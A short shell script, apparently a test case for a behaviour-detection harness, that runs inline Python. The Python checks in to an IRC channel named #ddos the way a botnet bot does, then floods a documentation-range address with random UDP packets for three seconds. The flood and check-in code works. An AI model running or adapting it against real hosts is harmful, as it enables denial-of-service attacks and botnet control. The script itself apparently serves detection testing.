#!/bin/sh
. /opt/case/case.sh

python3 - <<'END'
import os, socket, time
c = socket.create_connection(("203.0.113.10", 6667)); c.sendall(b"NICK x10\r\nUSER x 8 * :x\r\nJOIN #ddos\r\nPRIVMSG #ddos :ready\r\n")
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); d = os.urandom(1024); end = time.time() + 3; n = 0
while time.time() < end:
    try: s.sendto(d, ("198.51.100.9", 80 + n % 1000)); n += 1
    except OSError: pass
assert n > 5000
END
took_place
